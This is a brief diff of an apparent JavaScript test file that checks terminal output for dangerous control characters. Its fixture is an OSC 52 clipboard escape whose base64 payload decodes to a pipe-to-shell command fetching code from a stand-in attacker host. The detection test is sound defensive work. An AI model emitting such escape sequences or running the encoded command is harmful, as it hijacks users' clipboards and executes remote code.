@@ -20,7 +20,7 @@ import {tempDir} from '../helpers/temp-dir.js';
 import {waitFor} from '../helpers/wait.js';
 
 // ESC, BEL, every other C0 but the newline that ends a line, DEL, C1, bidi overrides and isolates.
-// eslint-disable-next-line no-control-regex
+
 const dangerous = /[\u0000-\u0009\u000B-\u001F\u007F-\u009F\u202A-\u202E\u2066-\u2069]/;
 
 const osc52 = '\u001B]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007';
